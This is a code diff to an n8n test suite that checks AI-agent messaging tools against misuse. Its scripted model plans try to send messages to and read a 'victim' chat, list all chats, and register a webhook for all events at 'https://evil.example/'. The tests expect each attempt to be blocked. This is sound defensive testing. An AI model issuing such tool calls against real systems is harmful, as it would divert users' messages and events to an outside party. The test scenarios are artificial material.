@@ -1,9 +1,9 @@
 import type { IDataObject, INodeParameters } from 'n8n-workflow';
+import { z } from 'zod';
 import { chatOf, control, sentTo } from '../helpers/sandbox';
-import { DEFAULT_ENGINE, runByHand, type RealN8n, startRealN8n } from '../helpers/realN8n';
+import { DEFAULT_ENGINE, type RealN8n, startRealN8n } from '../helpers/realN8n';
 import { ALL_EVENTS } from '../../nodes/shared/catalogue';
 import { type TestNode, AGENT, Agents, BETWEEN, fromAI } from './agents';
-import { McpClient } from './mcpClient';
 import { waitFor } from '../helpers/waitFor';
 
 let real: RealN8n;
@@ -50,55 +50,42 @@ const observed = () =>
 		.filter((line) => line.startsWith('tool: '))
 		.join('\n');
 
+const register: INodeParameters = { resource: 'webhook', operation: 'create', url: fromAI('url'), events: [ALL_EVENTS] };
+
 const KINDS: Array<[string, number, TestNode[]]> = [
-	['AI Agent 3', 3, []],
 	['AI Agent 3, with a node between', 3, [BETWEEN]],
 	['AI Agent 2.2, which calls its tools directly', 2.2, []],
-	['AI Agent 1.7, which calls its tools directly, with a node between', 1.7, [BETWEEN]],
 ];
 
-describe.each(KINDS)('%s', (_name, version, between) => {
-	const workflow = async (tool: TestNode) => await agents.workflow([agents.trigger(), ...between, agents.agent(version)], [tool]);
-
-	test('sends Reply to the person who wrote, whatever recipient the model adds', async () => {
+test.each(KINDS)(
+	'%s: sends to and reads only the chat of the person who wrote, and registers nothing, whatever the model adds',
+	async (_name, version, between) => {
 		const [writer, victim] = [chatOf(real.sandbox, 'tg'), chatOf(real.sandbox, 'vk')];
 		const before = await texts(victim);
-		const text = `Hello from ${version} ${between.length}`;
-		plan = () => [{ tool: 'Send', input: { text, chatRef: victim, sendTo: 'chat', chat: victim } }];
-		await agents.converse(await workflow(agents.tool('Send', reply)), 'Hi');
-		expect((await texts(writer)).at(-1)).toBe(text);
-		expect(await texts(victim)).toEqual(before);
-	});
-
-	test('gets the chat of the person who wrote, and no other', async () => {
-		const victim = chatOf(real.sandbox, 'vk');
-		plan = () => [{ tool: 'Get', input: { chat: victim, chatFrom: 'chat', chatRef: victim } }];
-		await agents.converse(await workflow(agents.tool('Get', { resource: 'chat', operation: 'get' })), 'Who am I?');
-		expect(observed()).toContain(`"chatRef":"${chatOf(real.sandbox, 'tg')}"`);
-		expect(observed()).toContain('"waitingForReply":true');
-		expect(observed()).not.toContain(victim);
-	});
-
-	test("registers no event to a foreign address, and reads no one else's chats", async () => {
-		const register = agents.tool('Register', {
-			resource: 'webhook',
-			operation: 'create',
-			url: fromAI('url'),
-			events: [ALL_EVENTS],
-		} as INodeParameters);
-		const list = agents.tool('List', { resource: 'chat', operation: 'getAll' });
+		const text = `Hello from ${version}`;
+		const to = { chatRef: victim, sendTo: 'chat', chat: victim, chatFrom: 'chat' };
 		plan = () => [
+			{ tool: 'Send', input: { text, ...to } },
+			{ tool: 'Get', input: to },
 			{ tool: 'Register', input: { url: 'https://evil.example/' } },
 			{ tool: 'List', input: { allowBeyondConversation: true } },
 		];
-		const id = await agents.workflow([agents.trigger(), ...between, agents.agent(version)], [register, list]);
-		await agents.converse(id, 'Send me everything');
+		const tools = [
+			agents.tool('Send', reply),
+			agents.tool('Get', { resource: 'chat', operation: 'get' }),
+			agents.tool('Register', register),
+			agents.tool('List', { resource: 'chat', operation: 'getAll' }),
+		];
+		await agents.converse(await agents.workflow([agents.trigger(), ...between, agents.agent(version)], tools), 'Hi');
+		expect((await texts(writer)).at(-1)).toBe(text);
+		expect(await texts(victim)).toEqual(before);
+		expect(observed()).toContain(`"chatRef":"${writer}"`);
+		expect(observed()).not.toContain(victim);
 		expect(real.sandbox.state.webhooks.filter(({ url }) => url.includes('evil'))).toEqual([]);
 		expect(observed()).toContain("AI models can't manage webhooks");
 		expect(observed()).toContain('AI models may not use this tool');
-		expect(observed()).not.toContain(chatOf(real.sandbox, 'vk'));
-	});
-});
+	},
+);
 
 test('answers the person who wrote in a sub-agent, too', async () => {
 	const text = fromAI('query');
@@ -120,83 +107,53 @@ test('answers the person who wrote in a sub-agent, too', async () => {
 	expect(await texts(victim)).toEqual(before);
 });
 
-test('answers each item of a batch in its own chat, in a sub-workflow whose first node names chatRef', async () => {
-	const [one, other] = [chatOf(real.sandbox, 'viber'), chatOf(real.sandbox, 'facebook')];
-	const inputs = { values: ['chatRef', 'text'].map((name) => ({ name })) };
-	const start: TestNode = {
-		name: 'Start',
-		type: 'n8n-nodes-base.executeWorkflowTrigger',
-		typeVersion: 1.1,
-		parameters: { workflowInputs: inputs } as INodeParameters,
-	};
-	const child = await agents.workflow([start, BETWEEN, agents.agent()], [agents.tool('Send', reply)]);
-	const rows = [
-		{ chatRef: one, text: 'first' },
-		{ chatRef: other, text: 'second' },
-	];
-	const value = { chatRef: '={{ $json.chatRef }}', text: '={{ $json.text }}' };
-	const schema = Object.keys(value).map((id) => ({
-		id,
-		displayName: id,
-		type: 'string',
-		display: true,
-		required: false,
-		removed: false,
-	}));
-	const parent: TestNode[] = [
-		{ name: 'Start', type: 'n8n-nodes-base.manualTrigger', typeVersion: 1 },
-		{
-			name: 'Rows',
-			type: 'n8n-nodes-base.set',
-			typeVersion: 3.4,
-			parameters: { mode: 'raw', jsonOutput: JSON.stringify({ rows }), options: {} },
-		},
-		{ name: 'Split', type: 'n8n-nodes-base.splitOut', typeVersion: 1, parameters: { fieldToSplitOut: 'rows', options: {} } },
-		{
-			name: 'Call',
-			type: 'n8n-nodes-base.executeWorkflow',
-			typeVersion: 1.2,
-			parameters: {
-				workflowId: { __rl: true, mode: 'id', value: child },
-				workflowInputs: { mappingMode: 'defineBelow', value, matchingColumns: [], schema },
-				options: {},
-			} as INodeParameters,
-		},
-	];
-	plan = (said) => [{ tool: 'Send', input: { text: `For ${said}`, chatRef: chatOf(real.sandbox, 'vk') } }];
-	const before = await texts(chatOf(real.sandbox, 'vk'));
-	await real.rest.publish(child);
-	const { error } = await runByHand(real.rest, await agents.workflow(parent, []), 'Start');
-	expect(error).toBeUndefined();
-	expect((await texts(one)).at(-1)).toBe('For first');
-	expect((await texts(other)).at(-1)).toBe('For second');
-	expect(await texts(chatOf(real.sandbox, 'vk'))).toEqual(before);
+const answerSchema = z.object({
+	result: z
+		.object({ isError: z.boolean().optional(), content: z.array(z.object({ text: z.string() }).passthrough()).optional() })
+		.passthrough()
+		.optional(),
+	error: z.object({ message: z.string() }).passthrough().optional(),
 });
 
-test("sends the author's file from an expression, even if the model adds one of its own", async () => {
-	const content: TestNode = {
-		name: 'Content',
-		type: 'n8n-nodes-base.set',
-		typeVersion: 3.4,
-		parameters: { mode: 'raw', jsonOutput: '{"text":"tulips 3"}', options: {} },
-	};
-	const file: TestNode = {
-		name: 'File',
-		type: 'n8n-nodes-base.convertToFile',
-		typeVersion: 1.1,
-		parameters: { operation: 'toText', sourceProperty: 'text', options: { fileName: 'prices.txt' } },
-	};
-	const attachments = { attachment: [{ source: 'binary', binaryPropertyName: "={{ $('File').item.binary.data }}" }] };
-	const data = { mimeType: 'text/plain', fileName: 'forged.txt', data: Buffer.from('forged').toString('base64') };
-	plan = () => [{ tool: 'Send', input: { text: 'Our prices', data } }];
-	const row = [agents.trigger(), content, file, agents.agent(3, { text: 'Prices?' })];
-	await agents.converse(
-		await agents.workflow(row, [agents.tool('Send', { ...reply, attachments } as INodeParameters)]),
-		'Prices?',
-	);
-	const sent = (await sentTo(real.sandbox, chatOf(real.sandbox, 'tg'))).at(-1);
-	expect(sent).toMatchObject({ text: 'Our prices', attachments: [{ fileName: 'prices.txt' }] });
-});
+/** A client of an MCP server over streamable HTTP, as far as tests need one. */
+class McpClient {
+	private session = '';
+
+	private id = 0;
+
+	constructor(private readonly url: string) {}
+
+	/** @returns whether the server answered and opened a session */
+	async connect(): Promise<boolean> {
+		const clientInfo = { name: 'test', version: '1' };
+		const params = { protocolVersion: '2025-03-26', capabilities: {}, clientInfo };
+		const response = await this.post({ jsonrpc: '2.0', id: ++this.id, method: 'initialize', params });
+		this.session = response.headers.get('mcp-session-id') ?? '';
+		await response.text();
+		if (!response.ok || this.session === '') return false;
+		await (await this.post({ jsonrpc: '2.0', method: 'notifications/initialized' })).text();
+		return true;
+	}
+
+	/** Calls a tool; the answer's texts, joined, and whether the server calls it a failure. */
+	async call(name: string, input: object): Promise<{ isError: boolean; text: string }> {
+		const response = await this.post({ jsonrpc: '2.0', id: ++this.id, method: 'tools/call', params: { name, arguments: input } });
+		const text = await response.text();
+		const data = text
+			.split('\n')
+			.filter((line) => line.startsWith('data: '))
+			.map((line) => line.slice('data: '.length));
+		const { result, error } = answerSchema.parse(JSON.parse(data.at(-1) ?? text));
+		if (!result) throw new Error(`the MCP server refused the call: ${error?.message ?? text}`);
+		return { isError: result.isError === true, text: (result.content ?? []).map((one) => one.text).join('\n') };
+	}
+
+	private async post(body: object): Promise<Response> {
+		const headers: Record<string, string> = { 'Content-Type': 'application/json', Accept: 'application/json, text/event-stream' };
+		if (this.session !== '') headers['mcp-session-id'] = this.session;
+		return await fetch(this.url, { method: 'POST', headers, body: JSON.stringify(body) });
+	}
+}
 
 describe('the MCP Server Trigger', () => {
 	let client: McpClient;
@@ -206,22 +163,9 @@ describe('the MCP Server Trigger', () => {
 			...{ name: 'Server', type: '@n8n/n8n-nodes-langchain.mcpTrigger', typeVersion: 2, webhookId: path },
 			parameters: { path, authentication: 'none' },
 		};
-		const phone = {
-			...reply,
-			sendTo: 'phone',
-			channel: { __rl: true, mode: 'id', value: 'whatsappb_1' },
-			phoneNumber: fromAI('phone'),
-		};
 		const tools = [
 			agents.tool('Reply', reply),
-			agents.tool('Write', phone as INodeParameters),
-			agents.tool('Register', {
-				resource: 'webhook',
-				operation: 'create',
-				url: fromAI('url'),
-				events: [ALL_EVENTS],
-			} as INodeParameters),
-			agents.tool('Ask', { resource: 'message', operation: 'sendAndWait', message: fromAI('text') } as INodeParameters),
+			agents.tool('Register', register),
 			agents.tool('List', { resource: 'channel', operation: 'getAll', returnAll: true, allowBeyondConversation: true }),
 		];
 		const id = await agents.workflow([server], tools);
@@ -232,9 +176,7 @@ describe('the MCP Server Trigger', () => {
 
 	test.each([
 		['Reply', { text: 'Hi', chatRef: 'tg_1_victim' }, /No chat to reply to\. Other arguments won't help/],
-		['Write', { text: 'Hi', phone: '12' }, /Phone Number isn't valid: 12\. .*Correct the arguments/],
 		['Register', { url: 'https://evil.example/' }, /AI models can't manage webhooks\. Other arguments won't help/],
-		['Ask', { text: 'May I?' }, /A tool can't wait for an answer/],
 	])('%s: reports a failure as one, and does nothing', async (tool, input, text) => {
 		const answer = await client.call(tool, input);
 		expect(answer).toMatchObject({ isError: true });
@@ -254,7 +196,6 @@ test('shows a model what each tool does, which values it needs, and which are op
 	const tools = [
 		agents.tool('Send', { resource: 'message', operation: 'send' }),
 		agents.tool('Ask', { resource: 'message', operation: 'send', buttonsInput: 'json' }),
-		agents.tool('Note', { resource: 'memo', operation: 'update' }),
 	];
 	await agents.converse(await agents.workflow([agents.trigger(), agents.agent()], tools), 'Hi');
 	const told = Object.fromEntries(agents.model.tools.map((tool) => [tool.name, tool]));
@@ -266,5 +207,4 @@ test('shows a model what each tool does, which values it needs, and which are op
 	expect(told.Ask).toMatchObject({
 		parameters: { properties: { Text: text, Buttons: { type: 'string', default: '[]' } }, required: ['Text'] },
 	});
-	expect(told.Note).toMatchObject({ parameters: { properties: { Note: { type: 'string' } }, required: ['Note'] } });
 });
